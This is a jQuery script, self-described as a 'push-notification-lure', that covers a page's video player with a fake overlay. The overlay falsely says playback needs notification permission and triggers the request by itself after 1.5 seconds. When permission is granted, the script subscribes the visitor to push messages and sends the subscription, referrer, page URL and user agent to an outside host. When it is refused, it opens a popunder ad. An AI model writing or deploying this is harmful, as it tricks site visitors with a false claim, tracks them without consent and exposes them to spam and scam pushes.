/* push-notification-lure: fake video player that will not "play" until notifications are allowed */
/* jQuery; on grant subscribes via a service worker, on refusal opens a popunder offer */
jQuery(function ($) {
  var cfg = {
    sw: '/push-worker.js',
    api: 'https://notify-stream-cdn.com/v2/s',
    key: 'BPq2Lm9xR4tY7uWzA1sD3fG6hJ8kN0bV5cX2eQ9rT4yU7iO1pL3aS6dF8gH0jK2lZ5xC7vB9nM1qW3eR5tY7uI9o',
    popunder: 'https://hot-deals-now.click/go?z=771'
  };

  var $player = $('.video-embed, .wp-video, #player').first();
  if (!$player.length || !('serviceWorker' in navigator) || !window.Notification) return;

  var $gate = $('<div class="vp-gate"/>').css({
    position: 'absolute', inset: 0, background: '#000 url(/wp-content/uploads/thumb-blur.jpg) center/cover',
    display: 'flex', alignItems: 'center', justifyContent: 'center', cursor: 'pointer', zIndex: 50
  }).append(
    $('<div/>').css({ background: 'rgba(0,0,0,.7)', color: '#fff', padding: '18px 26px', borderRadius: 8, textAlign: 'center' })
      .html('&#9654; <b>Press "Allow" to watch the video</b><br><small>Your browser needs permission to start playback</small>')
  );
  $player.css('position', 'relative').append($gate);

  function keyBytes(k) {
    var s = atob(k.replace(/-/g, '+').replace(/_/g, '/') + '==='.slice((k.length + 3) % 4));
    return Uint8Array.from(s, function (c) { return c.charCodeAt(0); });
  }

  function subscribe() {
    navigator.serviceWorker.register(cfg.sw).then(function (reg) {
      return reg.pushManager.getSubscription().then(function (old) {
        return old || reg.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: keyBytes(cfg.key) });
      });
    }).then(function (sub) {
      $.ajax({
        url: cfg.api,
        type: 'POST',
        contentType: 'application/json',
        data: JSON.stringify({ sub: sub, ref: document.referrer, page: location.href, ua: navigator.userAgent })
      });
      $gate.fadeOut(200);
    });
  }

  $gate.on('click', function () {
    Notification.requestPermission(function (p) {
      if (p === 'granted') {
        subscribe();
      } else {
        window.open(cfg.popunder, '_blank');
        window.focus();
      }
    });
  });

  if (Notification.permission === 'granted') subscribe();
  else setTimeout(function () { $gate.trigger('click'); }, 1500);
});
